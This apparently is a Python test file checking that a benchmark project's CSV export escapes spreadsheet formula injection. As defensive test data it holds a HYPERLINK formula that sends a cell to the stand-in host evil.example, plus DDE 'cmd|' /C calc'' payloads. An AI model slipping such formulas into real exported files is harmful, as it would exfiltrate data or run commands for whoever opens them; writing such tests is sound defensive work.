"""downloads/runs.csv: cells a spreadsheet would run as formulas are neutralised (issue #33)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from pgbench_kb.derive.downloads import CSV_FIELDS, csv_cell, csv_text
from pgbench_kb.derive.run_view import run_row
from pgbench_kb.runs.runfile import load_yaml_file

FIXTURE = Path(__file__).parent / "fixtures" / "measured-example.yaml"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"click")'


def cells_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_in_a_free_text_field_is_written_as_text() -> None:
    """Regression (#33, attack 8): `server.os.name: =HYPERLINK(…)` reached downloads/runs.csv
    as a formula a spreadsheet ran on opening the file."""
    run = load_yaml_file(FIXTURE).data
    run.setdefault("server", {})["os"] = {"name": HYPERLINK, "release": None}
    run["postgres"]["settings_profile"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    row = run_row(run, Path("data/runs/x.yaml"))
    [cells] = cells_of(csv_text([row]))
    assert cells["os"] == "'" + HYPERLINK
    assert cells["settings_profile"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["id"] == run["id"]
    assert set(cells) == set(CSV_FIELDS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-0.25", "-0.25"),
        (-5, -5),
        (12.5, 12.5),
        (None, ""),
        ("RAID5, 4x HDD", "RAID5, 4x HDD"),
        ("a=b", "a=b"),
    ],
)
def test_each_formula_start_is_neutralised_but_plain_numbers_are_not(value, written) -> None:
    """OWASP's CSV injection rule: a cell starting with =, +, -, @, tab or CR gets a leading
    ', except a plain number."""
    assert csv_cell(value) == written
